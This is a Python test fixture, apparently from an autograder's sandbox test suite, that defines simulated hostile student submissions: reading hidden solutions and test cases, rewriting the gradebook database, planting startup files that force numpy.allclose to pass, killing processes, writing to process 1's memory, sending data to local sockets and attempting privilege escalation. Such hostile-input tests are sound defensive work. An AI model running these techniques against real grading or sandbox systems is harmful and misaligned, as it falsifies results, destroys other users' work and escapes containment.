"""Attacks on what is outside: secrets, the gradebook, other students, the machine.

Whoever looks for answers has wrong ones of his own, and takes what he finds.
"""

from tests.grader.hostile.bank import NOTHING, RIGHT, WRONG, attack

_USE = """
def take(text):
    "Run every cell of a found notebook that defines one of the functions."
    import json
    for cell in json.loads(text)["cells"]:
        source = "".join(cell["source"])
        if cell["cell_type"] == "code" and source.startswith(("def double", "def mean")):
            if "NotImplementedError" not in source:
                exec(source, globals())
"""
_TRY = """
def tried(step, *arguments, **options):
    try:
        return step(*arguments, **options)
    except BaseException as error:
        return None
"""

ATTACKS = [
    attack(
        "reads_the_solutions", NOTHING, base=WRONG, escapes="marks",
        last=_USE + _TRY + "from pathlib import Path\n"
        "tried(lambda: take(Path('@root@/solutions/small/small.ipynb').read_text()))",
    ),
    attack(
        "reads_the_submission_of_another", NOTHING, base=WRONG, escapes="marks",
        last=_USE + _TRY + "from pathlib import Path\n"
        "tried(lambda: take(Path('@root@/submitted/@before@/small/small.ipynb').read_text()))",
    ),
    attack(
        "reads_the_hidden_cases", NOTHING, base=WRONG, escapes="marks",
        last="""\
import base64, json, numpy

def plain(data):
    if isinstance(data, dict) and "array" in data:
        raw = base64.b64decode(data["array"])
        return numpy.frombuffer(raw, data["dtype"]).reshape(data["shape"])
    return data

def answers(name):
    try:
        with open("@root@/hidden/small.json") as file:
            cases = json.load(file)["functions"][name]
    except OSError:
        return lambda values: None
    def function(values):
        for case in cases:
            if numpy.array_equal(plain(case["arguments"][0]), values):
                return plain(case["requirements"][0]["options"]["expected"])
    return function

double, mean = answers("double"), answers("mean")""",
    ),
    attack(
        "looks_everywhere_for_notebooks_and_cases", NOTHING, base=WRONG, asserts=True,
        last=_USE + _TRY + """
import glob, os
places = ["/", os.getcwd(), os.path.expanduser("~"), "@root@", "..", "/home", "/root", "/srv"]
places += glob.glob("/proc/*/cwd") + glob.glob("/proc/*/root") + glob.glob("/proc/*/fd/*")
for place in places:
    for start in (place, place + "/..", place + "/solutions", place + "/submitted"):
        names = glob.glob(start + "/*.ipynb") + glob.glob(start + "/*/*.ipynb")
        for name in names[:200]:
            tried(lambda: take(open(name).read()))
for name in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
    text = tried(lambda: open(name, errors="replace").read()) or ""
    assert "@root@" not in text, "the course is named in " + name""",
    ),
    attack(
        "rewrites_the_gradebook", NOTHING, base=WRONG, escapes="gradebook",
        last=_TRY + """
import sqlite3
def rewrite():
    with sqlite3.connect("file:@root@/gradebook.db?mode=rw", uri=True) as book:
        book.execute("update grade_cells set max_score = 100")
        book.execute("update grade set manual_score = 5, auto_score = 5")
        book.execute("insert into student (id, first_name) values ('@mark@', 'x')")
tried(rewrite)""",
    ),
    attack(
        "holds_the_lock_of_the_gradebook",
        last=_TRY + """
import os, sqlite3, time
def hold():
    book = sqlite3.connect("file:@root@/gradebook.db?mode=rw", uri=True)
    book.execute("begin exclusive")
    if os.fork() == 0:
        os.setsid()
        time.sleep(60)
        os._exit(0)
tried(hold)""",
    ),
    attack(
        "writes_results_of_his_own", NOTHING, base=WRONG, escapes="files",
        last=_TRY + """
import json, os
result = json.dumps({"version": 1, "student": "@mark@", "status": "graded"})
for folder in ("@root@/journal/small", "@root@/autograded/@mark@/small"):
    tried(os.makedirs, folder, exist_ok=True)
    tried(lambda: open(folder + "/@mark@.json", "w").write(result))""",
    ),
    attack(
        "edits_the_files_of_others",
        last=_TRY + """
import glob, os, shutil
for step in ("submitted", "autograded", "feedback", "exercises", "solutions", "hidden"):
    for name in glob.glob("@root@/" + step + "/**/*.ipynb", recursive=True):
        tried(os.chmod, name, 0o666)
        tried(lambda: open(name, "a").write(" "))
tried(shutil.rmtree, "@root@/submitted/@before@")""",
    ),
    attack(
        "writes_start_up_files", NOTHING, base=WRONG, asserts=True,
        last=_TRY + """
import os, site, sysconfig
import IPython
home, text = os.path.expanduser("~"), "import numpy; numpy.allclose = lambda *_: True  # @mark@"
python = sysconfig.get_path("purelib")
places = [
    IPython.paths.get_ipython_dir() + "/profile_default/startup/00-@mark@.py",
    "@root@/home/ipython/profile_default/startup/00-@mark@.py",
    home + "/.ipython/profile_default/startup/00-@mark@.py",
    home + "/.local/lib/python3.11/site-packages/usercustomize-@mark@.py",
    home + "/.bashrc-@mark@", "/etc/profile.d/@mark@.sh",
    python + "/@mark@.pth", python + "/@mark@.py", "sitecustomize.py", "numpy.py",
    "@root@/quantgrader/@mark@.py",
]
for name in places:
    tried(os.makedirs, os.path.dirname(name) or ".", exist_ok=True)
    tried(lambda: open(name, "w").write(text))
import quantgrader.cases.compare
for module in (quantgrader.cases.compare, os, site):
    assert not os.access(module.__file__, os.W_OK), module.__file__""",
    ),
    attack(
        "leaves_answers_for_a_friend",
        last=_TRY + """
import getpass, os, tempfile
answers = '''DOUBLE
MEAN'''
for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run", os.path.expanduser("~"), "@root@",
               os.environ.get("NUMBA_CACHE_DIR", "."), tempfile.gettempdir(), os.getcwd()):
    tried(lambda: open(folder + "/@mark@.py", "w").write(answers))
""".replace("DOUBLE", RIGHT["double"]).replace("MEAN", RIGHT["mean"]),
    ),
    attack(
        "picks_up_the_answers_of_a_friend", NOTHING, base=WRONG,
        last=_TRY + """
import os, tempfile
for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run", os.path.expanduser("~"), "@root@",
               os.environ.get("NUMBA_CACHE_DIR", "."), tempfile.gettempdir(), os.getcwd()):
    tried(lambda: exec(open(folder + "/@mark@.py").read(), globals()))""",
    ),
    attack(
        "calls_home", escapes="network",
        last=_TRY + """
import socket, urllib.request
def say(kind, *address):
    with socket.socket(socket.AF_INET, kind) as talk:
        talk.settimeout(1)
        talk.connect(address)
        talk.send(b"hidden inputs")
for host in ("127.0.0.1", "localhost", socket.gethostname(), "10.0.2.2", "172.17.0.1"):
    tried(say, socket.SOCK_STREAM, host, @port@)
tried(say, socket.SOCK_DGRAM, "127.0.0.1", @port@)
tried(urllib.request.urlopen, "http://127.0.0.1:@port@/", timeout=1)
with socket.socket(socket.AF_UNIX) as talk:
    tried(talk.connect, "\\0@mark@")""",
    ),
    attack(
        "calls_by_other_kinds_of_sockets", asserts=True,
        last="""\
import socket
# Bluetooth, vsock to the host of a virtual machine, the kernel's own ciphers, ...
for family in {*range(1, 50)} - {socket.AF_UNIX, socket.AF_INET, socket.AF_INET6, 16}:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
        try:
            socket.socket(family, kind)
        except OSError:
            continue
        raise SystemError(f"a socket of family {family}")""",
    ),
    attack(
        "makes_process_one_its_tool", asserts=True,
        last="""\
import ctypes, os, signal
# Process 1 belongs to the same user. Whatever it may do that a cell may not, a cell may do that
# writes its own code over that of a function which process 1 is about to return to.
status = open("/proc/1/status").read()
assert "Seccomp:\\t2" in status, "process 1 may make any system call"
place = ctypes.cast(ctypes.CDLL(None).wait4, ctypes.c_void_p).value
try:
    with open("/proc/1/mem", "r+b", buffering=0) as memory:
        memory.seek(place)
        memory.write(b"\\xcc" * 16)
except OSError:
    pass
try:
    os.kill(1, signal.SIGCHLD)
except OSError:
    pass""",
    ),
    attack(
        "goes_on_in_the_background",
        last="""\
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        end = time.monotonic() + 25
        while time.monotonic() < end:
            for folder in ("@root@", "/tmp", "/dev/shm"):
                try:
                    with open(folder + "/@mark@-alive", "a") as file:
                        file.write("x")
                except OSError:
                    pass
            time.sleep(0.05)
    os._exit(0)""",
    ),
    attack(
        "kills_whatever_it_can",
        imports="""\
import os, signal
for one in (@bystander@, os.getppid(), 1):
    try:
        os.kill(one, signal.SIGKILL)
    except OSError:
        pass
for one in range(2, 4000):
    if one != os.getpid():
        try:
            os.kill(one, signal.SIGKILL)
        except OSError:
            pass
os.kill(-1, signal.SIGKILL)""",
    ),
    attack(
        "watches_and_changes_other_processes", asserts=True,
        last="""\
import ctypes, glob
libc = ctypes.CDLL(None, use_errno=True)
assert libc.ptrace(16, @bystander@, 0, 0) == -1
for name in glob.glob("/proc/[0-9]*/mem"):
    if name.split("/")[2] == "@bystander@":
        raise SystemError("the bystander can be seen")""",
    ),
    attack(
        "wants_more_rights", asserts=True,
        last="""\
import ctypes, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)
assert libc.unshare(0x10000000) == -1, "a new user namespace"
assert libc.mount(b"/", b"/tmp", None, 4096, None) == -1, "a mount"
assert libc.setuid(0) == -1 or os.getuid() == 0 == 1, "root"
for line in (["su", "-c", "id"], ["sudo", "-n", "id"], ["mount"], ["bwrap", "--bind", "/", "/",
             "true"]):
    try:
        done = subprocess.run(line, capture_output=True, timeout=2, stdin=subprocess.DEVNULL)
        assert line == ["mount"] or done.returncode, line
    except (OSError, subprocess.TimeoutExpired):
        pass""",
    ),
]  # fmt: skip
